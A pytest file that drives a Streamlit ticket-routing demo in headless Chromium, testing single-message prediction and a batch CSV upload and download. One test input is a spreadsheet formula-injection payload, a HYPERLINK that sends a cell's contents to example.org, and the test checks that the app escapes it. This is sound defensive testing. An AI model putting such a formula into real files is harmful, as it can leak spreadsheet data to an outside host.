"""Streamlit component, real tier: the all-on project's demo driven in headless Chromium."""

from __future__ import annotations

import csv
import io
import os
import shutil
import signal
import subprocess
from pathlib import Path

import pytest
from playwright.sync_api import FilePayload, Page, sync_playwright

from .running import bake, free_port, run, wait_until_ready
from .template import TEMPLATE_DIR, require_tools, tool_environment

ARTIFACTS = TEMPLATE_DIR / "test-artifacts"
# No sandbox (root in a container), and nothing that reaches out of this machine.
CHROMIUM_ARGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]

# Two messages for the Batch page; a spreadsheet would run the first as a formula, as it is.
FORMULA = '=HYPERLINK("http://example.org/?leak="&A3, "Refund")'
MESSAGES = [FORMULA, "I was charged twice for my order"]
PROJECT_NAME = "Support Ticket Router"  # the default answer


def download_predictions(page: Page, folder: Path) -> list[str]:
    """Route a file on the Batch page and download the predictions, as a user does."""
    page.get_by_role("link", name="Batch").click()
    page.get_by_role("heading", name="Predict the labels of a file of messages").wait_for(
        timeout=60_000
    )
    content = io.StringIO()
    csv.writer(content).writerows([["text"], *([message] for message in MESSAGES)])
    buffer = content.getvalue().encode()
    upload = FilePayload(name="messages.csv", mimeType="text/csv", buffer=buffer)
    page.locator("input[type=file]").set_input_files(files=[upload])
    button = page.get_by_role("button", name="Download the predictions")
    button.wait_for(timeout=60_000)
    with page.expect_download(timeout=60_000) as started:
        button.click()
    saved = folder / "predictions.csv"
    started.value.save_as(saved)
    with saved.open(encoding="utf-8", newline="") as handle:
        return [row["text"] for row in csv.DictReader(handle)]


def browser_path() -> str | None:
    """Debian's chromium, or the Chrome or Chromium that the CHROMIUM variable names."""
    return os.environ.get("CHROMIUM") or shutil.which("chromium")


@pytest.mark.real
def test_the_demo_routes_a_message_and_a_file_in_a_real_browser(tmp_path: Path) -> None:
    require_tools("uv", "make")
    if browser_path() is None:
        require_tools("chromium")
    project = bake(tmp_path / "bake")
    run(["make", "train"], project)
    port = free_port()
    demo = subprocess.Popen(
        ["make", "demo", f"DEMO_PORT={port}"],
        cwd=project,
        env=tool_environment(),
        start_new_session=True,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    screenshot = ARTIFACTS / "demo-predict.png"
    screenshot.unlink(missing_ok=True)
    try:
        wait_until_ready(f"http://127.0.0.1:{port}/_stcore/health")
        with sync_playwright() as playwright:
            browser = playwright.chromium.launch_persistent_context(
                str(tmp_path / "profile"),
                executable_path=browser_path(),
                headless=True,
                args=CHROMIUM_ARGS,
            )
            page = browser.new_page()
            page.goto(f"http://127.0.0.1:{port}/", timeout=60_000)
            page.get_by_role("heading", name="Predict the label of a message").wait_for(
                timeout=60_000
            )
            title = page.title()
            sidebar = page.get_by_test_id("stSidebarNav").inner_text()
            page.get_by_role("textbox", name="Message", exact=True).fill(
                "I was charged twice for my order, please refund"
            )
            page.get_by_role("button", name="Predict").click()
            team = page.get_by_test_id("stMetricValue").first
            team.wait_for(timeout=60_000)
            routed = team.inner_text()
            page.get_by_text("Words that pointed to this label").wait_for(timeout=30_000)
            page.get_by_test_id("stVegaLiteChart").locator("canvas, svg").first.wait_for()
            ARTIFACTS.mkdir(exist_ok=True)
            page.screenshot(path=str(screenshot), full_page=True)
            downloaded = download_predictions(page, tmp_path)
            browser.close()
    finally:
        os.killpg(demo.pid, signal.SIGTERM)
        demo.wait(timeout=30)
    assert PROJECT_NAME in title  # the browser's title, and the sidebar's heading
    assert PROJECT_NAME in sidebar
    assert routed == "billing"
    assert screenshot.stat().st_size > 10_000  # a rendered page, not a blank one
    assert downloaded == ["'" + FORMULA, MESSAGES[1]]  # the formula is text in a spreadsheet
